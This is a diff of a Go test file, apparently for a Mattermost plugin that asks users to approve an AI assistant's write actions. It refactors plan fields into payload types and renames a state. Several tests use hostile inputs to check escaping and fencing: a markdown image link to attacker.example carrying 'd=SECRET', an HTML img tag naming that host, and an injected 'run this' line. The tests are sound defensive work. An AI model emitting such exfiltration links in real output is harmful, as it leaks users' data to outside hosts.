@@ -57,18 +57,18 @@ func hostilePlans(v string) []posting.Plan {
 	return []posting.Plan{
 		{CallerID: "alice", Dest: place, Message: v, Notes: notes, Files: []posting.Staged{{Name: v, Size: 3}}},
 		{CallerID: "alice", Action: ActionEdit, PostID: "p", Dest: place, Message: v, Previous: v},
-		{CallerID: "alice", Action: ActionReact, PostID: "p", Dest: place, Emoji: v, Previous: v},
-		{CallerID: "alice", Action: ActionUnreact, PostID: "p", Dest: place, Emoji: v, Previous: v},
-		{CallerID: "alice", Action: ActionDelete, PostID: "p", Dest: place, Previous: v, Target: target, Notes: notes},
-		{CallerID: "alice", Action: ActionPin, PostID: "p", Dest: place, Previous: v, Target: target},
-		{CallerID: "alice", Action: ActionUnpin, PostID: "p", Dest: place, Previous: v, Target: target},
-		{CallerID: "alice", Action: ActionJoin, Dest: place, Channel: ch, Notes: notes},
-		{CallerID: "alice", Action: ActionLeave, Dest: place, Channel: ch, Notes: notes},
-		{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Channel: ch, Members: bob, Notes: notes},
-		{CallerID: "alice", Action: ActionAddMembers, Dest: place, Channel: ch, Members: bob, Notes: notes},
+		{CallerID: "alice", Action: ActionReact, PostID: "p", Dest: place, Payload: Reaction{Emoji: v}, Previous: v},
+		{CallerID: "alice", Action: ActionUnreact, PostID: "p", Dest: place, Payload: Reaction{Emoji: v}, Previous: v},
+		{CallerID: "alice", Action: ActionDelete, PostID: "p", Dest: place, Previous: v, Payload: ShownPost{Target: target}, Notes: notes},
+		{CallerID: "alice", Action: ActionPin, PostID: "p", Dest: place, Previous: v, Payload: ShownPost{Target: target}},
+		{CallerID: "alice", Action: ActionUnpin, PostID: "p", Dest: place, Previous: v, Payload: ShownPost{Target: target}},
+		{CallerID: "alice", Action: ActionJoin, Dest: place, Payload: ChannelShown{Channel: ch}, Notes: notes},
+		{CallerID: "alice", Action: ActionLeave, Dest: place, Payload: ChannelShown{Channel: ch}, Notes: notes},
+		{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Payload: ChannelMembers{Channel: ch, Members: bob}, Notes: notes},
+		{CallerID: "alice", Action: ActionAddMembers, Dest: place, Payload: ChannelMembers{Channel: ch, Members: bob}, Notes: notes},
 		{CallerID: "alice", Action: ActionSetStatus, Dest: posting.Destination{Label: "your status", Place: "your status"},
-			Status: &posting.StatusSpec{Availability: "away", Text: v, Emoji: v, Zone: "UTC"}},
-		{CallerID: "alice", Action: ActionSchedule, Dest: place, Message: v, SendAt: time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC), SendZone: "UTC", Notes: notes},
+			Payload: NewStatus{Status: &posting.StatusSpec{Availability: "away", Text: v, Emoji: v, Zone: "UTC"}}},
+		{CallerID: "alice", Action: ActionSchedule, Dest: place, Message: v, Payload: SendTime{SendAt: time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC), SendZone: "UTC"}, Notes: notes},
 	}
 }
 
@@ -92,10 +92,10 @@ func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheMod
 			if out := outsideFences(dm); strings.Contains(out, "\n# ") || strings.Contains(out, "\n> ") {
 				t.Errorf("%s with %q: a value wrote a line of its own:\n%s", actionOf(plan), v, dm)
 			}
-			for _, state := range []string{StatePosted, StateDeclined, StateFailed} {
+			for _, state := range []string{StateDone, StateDeclined, StateFailed} {
 				done := rec
 				done.State, done.Outcome = state, "Mattermost refused it: "+v
-				if state == StatePosted {
+				if state == StateDone {
 					done.Permalink = "https://mm.example/acme/pl/p"
 				}
 				text := a.settledText(done)
@@ -112,7 +112,7 @@ func TestTheBotsMessageHoldsEveryValueInOneFencedBlockAndOnlyThePluginsWordsOuts
 	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
 	v := "a\u2424> ![a](https://attacker.example/p.png?d=SECRET)"
 	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
-		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme ``` Ops", Name: "harbour", DisplayName: v, Purpose: "`run` this\r\nnow"}}
+		Payload: ChannelMembers{Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme ``` Ops", Name: "harbour", DisplayName: v, Purpose: "`run` this\r\nnow"}}}
 	dm := a.askingText(plan, Record{ID: "r", State: StatePending, CreatedAt: time.Now()}, time.UTC)
 	want := "**An AI assistant asks to create a channel as you.** Nothing happens until you accept.\n\n" +
 		"````\n" +
@@ -140,7 +140,7 @@ func TestTheOutcomeOfAWriteSaysWhatBecameOfItInThePluginsWordsAndWhereInTheBlock
 	for _, c := range []struct {
 		state, outcome, permalink, want string
 	}{
-		{StatePosted, "", "https://mm.example/acme/pl/p1", "**Posted** after you accepted: https://mm.example/acme/pl/p1" + where + "\n```"},
+		{StateDone, "", "https://mm.example/acme/pl/p1", "**Posted** after you accepted: https://mm.example/acme/pl/p1" + where + "\n```"},
 		{StateDeclined, "", "", "**Declined**: nothing was sent." + where + "\n```"},
 		{StateFailed, failedBefore + "Mattermost refused " + v, "", "**Failed** after you accepted: nothing was posted." + where +
 			"\nWhy: Mattermost refused Ops↵![a](https://attacker.example/p.png)\n```"},
@@ -190,7 +190,7 @@ func TestTheHeadingOnThePageMarksTheModelsValueAndEscapesIt(t *testing.T) {
 	f := newRoutes(t)
 	v := `<img src="https://attacker.example/p.png">`
 	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
-		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v}}
+		Payload: ChannelMembers{Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v}}}
 	rec, err := f.store.Create("alice", Title(plan), plan, nil)
 	if err != nil {
 		t.Fatal(err)
@@ -205,7 +205,7 @@ func TestTheHeadingOnThePageMarksTheModelsValueAndEscapesIt(t *testing.T) {
 func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T) {
 	f := newRoutes(t)
 	a := testApprovals(f)
-	plan := posting.Plan{CallerID: "alice", Action: ActionReact, PostID: "p1", Emoji: "tada", Previous: "we shipped",
+	plan := posting.Plan{CallerID: "alice", Action: ActionReact, PostID: "p1", Payload: Reaction{Emoji: "tada"}, Previous: "we shipped",
 		Dest: posting.Destination{ChannelID: "c", Label: "~town-square"}}
 	rec, err := f.store.Create("alice", Title(plan), plan, nil)
 	if err != nil {
@@ -215,7 +215,7 @@ func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T
 	if err != nil || done.Plan != nil {
 		t.Fatalf("accept: %+v %v", done, err)
 	}
-	if o := a.outcome(done); o.Plan.Emoji != "tada" || o.Plan.Action != ActionReact {
+	if o := a.outcome(done); EmojiOf(o.Plan) != "tada" || o.Plan.Action != ActionReact {
 		t.Fatalf("the outcome's plan is %+v", o.Plan)
 	}
 }
